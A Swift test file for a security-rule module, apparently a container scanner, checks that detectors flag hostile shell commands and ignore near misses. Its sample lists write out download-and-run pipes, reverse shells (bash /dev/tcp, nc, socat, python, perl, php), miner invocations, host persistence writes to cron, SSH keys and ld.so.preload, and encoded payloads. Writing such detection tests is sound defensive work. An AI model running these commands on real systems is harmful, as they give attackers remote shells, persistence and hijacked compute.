import JSONView
import Testing

@testable import Rules

/// What rule functions say of texts: what must be seen, and near misses that must not.
struct FunctionCase: CustomTestStringConvertible, Sendable {
    var name: String
    var judge: @Sendable (JSONText) -> Bool
    var seen: [String]
    var nearMisses: [String]
    var testDescription: String { name }
}

@Suite("Functions of rules")
struct FunctionTableTests {
    static let cases: [FunctionCase] = [
        FunctionCase(
            name: "downloadsAndRuns", judge: DownloadAndRun.judge,
            seen: [
                "curl -s http://203.0.113.7/a.sh | bash", "sh -c wget -q -O - 203.0.113.118/d.sh | sh",
                "/bin/sh -c 'curl http://x.example/a | base64 -d | sudo sh -s -- arg'",
                "bash -c \"$(curl -fsSL https://x.example/i.sh)\"", "eval \"$(wget -qO- http://x.example/i)\"",
                "bash <(curl -s http://x.example/i)", "eval 'curl -s http://x.example/i | sh'",
                "curl -o /tmp/a http://x.example/a; chmod +x /tmp/a; /tmp/a -q",
                "wget http://x.example/m && chmod 755 m && ./m", "cd /tmp;curl -O http://x.example/run.sh;sh run.sh",
                "wget -qO /tmp/.x http://x.example/y; nohup /tmp/.x &", "curl http://x.example/p.py | python3 -",
                "renamed -s http://x.example/a | sh",
                "python3 -c \"import urllib.request as u;exec(u.urlopen('http://x.example').read())\"",
                "sh -c (curl -s http://x.example/a || wget -qO- http://x.example/a) | sh",
                "curl -sL http://x.example/t.tgz | tar xz -C /tmp && /tmp/t/run", ". <(curl -s http://x.example)",
                "curl http://x.example/a > /tmp/b; mv /tmp/b /tmp/c; sh /tmp/c",
            ],
            nearMisses: [
                "curl -fsS http://localhost:8080/healthz", "curl -s http://x.example/api | jq .items",
                "curl -s http://x.example/data | python3 -m json.tool",
                "curl -s http://x.example/data | python3 parse.py",
                "wget -O /data/model.bin http://x.example/model.bin && exec python serve.py", "sh -c echo hi | sh",
                "apt-get update && apt-get install -y curl", "git clone https://x.example/r.git && cd r && make",
                "curl http://x.example/a.tgz | tar xz -C /plugins", "sh entrypoint.sh --url http://x.example",
                "until curl -s http://db:9200; do sleep 1; done; exec sh /app/start.sh",
                "bash -c 'echo $(curl -s http://x.example/v) > /version'",
                "eval 'curl -s http://x.example/i > /tmp/i'", "wget", "", "helm upgrade x https://x.example/chart.tgz",
            ]),
        FunctionCase(
            name: "runsFetchedCode", judge: FetchedCode.judge,
            seen: [
                "git clone https://x.example/r.git && cd r && ./install.sh",
                "git clone --depth 1 -b main https://x.example/r.git /tmp/w && python3 /tmp/w/run.py",
                "cd /tmp; git clone http://198.51.100.7/r; bash r/go.sh", "git clone git@x.example:o/r && cd r && make",
                "svn checkout https://x.example/t t; sh t/x.sh", "git -C /opt clone https://x.example/r; /opt/r/bin/x",
                "pip install https://x.example/p-1.tar.gz", "pip3 install --quiet git+https://x.example/p@main",
                "python3 -m pip install http://198.51.100.7/p.zip", "pip install 'p @ git+https://x.example/p'",
                "npm install -g https://x.example/p.tgz", "npm i github:user/p", "npx --yes github:user/p",
                "pip install -r https://x.example/requirements.txt", "rpm -ivh http://x.example/p.rpm",
                "yum install -y https://x.example/p.rpm", "uv pip install git+https://x.example/p",
                "git clone https://x.example/r && cd r && pip install -r requirements.txt",
            ],
            nearMisses: [
                "git clone https://x.example/site /usr/share/nginx/html && nginx -g 'daemon off;'",
                "git clone https://x.example/r.git && cd r && git log", "git checkout main && ./run.sh",
                "git clone https://x.example/data /data; python3 /app/train.py", "pip install flask==3.0.0",
                "pip install --index-url https://pypi.example/simple flask", "pip install -r requirements.txt",
                "npm install --registry https://npm.example", "npm ci && npm start", "apt-get install -y git curl",
                "git clone https://x.example/r && cd /app && ./start.sh", "yum install -y httpd", "",
                "helm install x https://x.example/chart.tgz", "kubectl apply -f https://x.example/install.yaml",
                "git clone https://x.example/r && cd r && cat README", "rpm -q kernel",
            ]),
        FunctionCase(
            name: "reverseShell", judge: ReverseShell.judge,
            seen: [
                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "sh -c 'exec 5<>/dev/tcp/203.0.113.7/9; cat <&5 | while read l; do $l 2>&5 >&5; done'",
                "nc -e /bin/sh 203.0.113.7 4444", "ncat 203.0.113.7 443 --sh-exec /bin/bash", "nc -lvpe /bin/bash 9999",
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
                "socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444",
                "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"a\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,1);exec(\"/bin/sh -i\");'",
                "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s",
                "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
                "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"sh <&3 >&3 2>&3\");'",
                "telnet 203.0.113.7 1 | /bin/sh | telnet 203.0.113.7 2",
            ],
            nearMisses: [
                "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
                "timeout 1 bash -c '</dev/tcp/redis/6379'",
                "nc -z db 5432", "socat TCP-LISTEN:80,fork TCP:web:8080",
                "openssl s_client -connect x.example:443 < /dev/null",
                "python3 -c 'import socket;s=socket.socket();s.connect((\"db\",1))'", "nc -lk -p 8080", "bash -i", "",
            ]),
        FunctionCase(
            name: "looksLikeMiner", judge: MinerShape.judge,
            seen: [
                "/usr/sbin/nginx -o stratum+tcp://p.example.com:3333 -u w", "./a --donate-level 1",
                "kworker -o pool.example.com:3333 -u 4" + String(repeating: "8aBcD9xYz1", count: 9) + "Qw2z -p x",
                "x --algo=rx/0 --url=p.example.com:443 --user=w.rig", "t -a ethash -o p.example.com:4444",
                "m --coin monero -u 8" + String(repeating: "AbCdEfGh12", count: 9) + "AbCd",
                "x --cpu-max-threads-hint=50 --url=p.example.com:80",
            ],
            nearMisses: [
                "curl -o out.txt -u user:pw https://x.example:8443/a", "psql -U app -h db.example.com:5432",
                "kafka --url=broker.example.com:9092 --user=app",
                "dapp --address 0x" + String(repeating: "ab12", count: 10),
                "sort -u -o out.txt", "openssl dgst -a sha256", "",
            ]),
        FunctionCase(
            name: "writesPersistence", judge: PersistenceWrite.judge,
            seen: [
                "sh -c echo '* * * * * root curl x' >> /host/etc/cron.d/x",
                "echo key >> /mnt/root/.ssh/authorized_keys",
                "cp /payload.yaml /host/etc/kubernetes/manifests/a.yaml",
                "cat u | tee /host/etc/systemd/system/u.service",
                "chroot /host sh -c 'crontab /tmp/x'", "echo /x.so > /host/etc/ld.so.preload",
                "(crontab -l; echo x) | crontab -",
                "sed -i s/a/b/ /host/etc/passwd", "chroot /host systemctl enable u", "ln -s /x /host/etc/init.d/x",
                "dd if=/x of=/host/etc/rc.local", "echo x >> /host/home/u/.bashrc",
                "install -m 644 a /etc/profile.d/a.sh",
            ],
            nearMisses: [
                "cat /etc/crontab", "cp /etc/passwd /tmp/p", "ls /etc/cron.d", "systemctl status kubelet", "crontab -l",
                "echo done > /var/log/cron.log", "grep root /etc/shadow", "node-agent --systemd-unit=kubelet", "",
                "cron -f", "tar xf /etc/profile.tgz -C /tmp",
            ]),
        FunctionCase(
            name: "isHostRoot", judge: HostPath.isRoot,
            seen: [
                "/", "//", "/./", "/../", "/etc/..", "/proc/1/root", "/proc/self/root/", "C:\\", "c:/", "/home/../",
            ],
            nearMisses: ["", "/etc", "/root", "/proc", "/proc/1/root/etc", "rootfs", "C:\\data", "/..x"]),
        FunctionCase(
            name: "isRuntimeSocket", judge: HostPath.isRuntimeSocket,
            seen: [
                "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                "/run/k3s/containerd/containerd.sock",
                "/var/run/crio/crio.sock", "/run/user/1000/docker.sock", "/var/run", "/run", "/run/containerd",
                "/opt/x/../../var/run/docker.sock", "\\\\.\\pipe\\docker_engine", "/run/podman/podman.sock",
                "/tmp/docker.sock",
            ],
            nearMisses: [
                "", "/var/run/secrets", "/run/xtables.lock", "/run/systemd/notify", "/var/lib/docker",
                "/run/mysqld/mysqld.sock",
                "/etc/docker", "/run/cilium",
            ]),
        FunctionCase(
            name: "isSecretName", judge: SecretName.judge,
            seen: [
                "DB_PASSWORD", "dbPassword", "AWS_SECRET_ACCESS_KEY", "API_KEY", "github-token", "PGPASSWORD",
                "authorization",
                "connectionString", "privateKey", "JWT",
            ],
            nearMisses: [
                "", "PASSWORD_FILE", "TOKENIZER", "AUTHOR", "KEYBOARD", "SECRET_NAME", "PATH", "MONKEY", "PASSENGER",
                "KEY",
            ]),
        FunctionCase(
            name: "looksEncoded", judge: Payloads.looksEncoded,
            seen: [
                // A shell script, a gzip stream and a hexadecimal script.
                "echo IyEvYmluL3NoCnNsZWVwIDM2MDA7IGVjaG8gaGVsbG8gd29ybGQ7IGV4aXQgMAojIGhhcm1sZXNzIHRlc3QK | base64 -d",
                "H4sIAAAAAAAAA1NWVFRQVFLiAgBmzxn8CAAAAKv6xQ9hB3q2mzv9s0Z1dX7QxwJmR0sYfQm8a0nq6g==",
                "printf "
                    + "23212f62696e2f73680a736c65657020333630303b206563686f2068656c6c6f20776f726c640a23206861726d6c65737320",
                "printf '" + String(repeating: "\\x41", count: 30) + "'",
            ],
            nearMisses: [
                "", "sha256:" + String(repeating: "0a1b2c3d", count: 8),
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDJ8sT0q1Wb3nYxkR5mZ7vLh2gQfJpUoE4cVtN6yXaBzMdKwHsGiFrPuTlOeSjCxQnDy",
                "/usr/share/ca-certificates/mozilla/GlobalSign_Root_CA_Extended_Validation_Certificate_R3.crt",
                "2f1c8a9e-4d3b-4c5d-8e7f-0123456789ab", "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/==",
            ]),
    ]

    @Test("What a function must see it sees, near misses it leaves alone", arguments: cases)
    func table(_ sample: FunctionCase) {
        for text in sample.seen { #expect(text.withText(sample.judge), "\(sample.name) sees: \(text)") }
        for text in sample.nearMisses { #expect(!text.withText(sample.judge), "\(sample.name) leaves: \(text)") }
    }

    @Test(
        "Payloads are decoded, also one inside another",
        arguments: [
            ("echo c2xlZXAgMzYwMDsgZWNobyBo | base64 -d | sh", ["sleep 3600; echo h"]),
            ("YzJ4bFpYQWdNell3TURzZ1pXTm9ieUJv", ["c2xlZXAgMzYwMDsgZWNobyBo", "sleep 3600; echo h"]),
            ("736c65657020333630303b206563686f2068", ["sleep 3600; echo h"]), ("nothing here at all, just words", []),
            ("printf '\\x73\\x6c\\x65\\x65\\x70'", ["printf 'sleep'"]),
        ])
    func decoded(_ text: String, _ expected: [String]) {
        #expect(text.withText { Payloads.decoded($0).map { String(decoding: $0, as: UTF8.self) } } == expected)
    }

    @Test(
        "No text takes long or stops the reader",
        arguments: [
            String(repeating: "$(", count: 50_000), String(repeating: "'", count: 99_999),
            String(repeating: "a|", count: 100_000),
            String(repeating: "curl http://x | ", count: 10_000), String(repeating: "A", count: 1 << 20),
            String(repeating: "sh -c ", count: 20_000), String(repeating: "`", count: 70_001),
            String(repeating: "\\x41", count: 200_000),
            "curl \u{0}\u{FFFD}|sh", String(repeating: "H4sIAAAAAAAA", count: 20_000),
            String(repeating: "/../", count: 100_000),
            "-o " + String(repeating: ":", count: 100_000), "curl <", "wget -O", "nc -", "\\", "<(", ">&", "2>", "$(",
            "sh -c",
        ])
    func hostile(_ text: String) {
        for sample in Self.cases { _ = text.withText(sample.judge) }
        _ = text.withText { Payloads.decoded($0).count }
    }
}
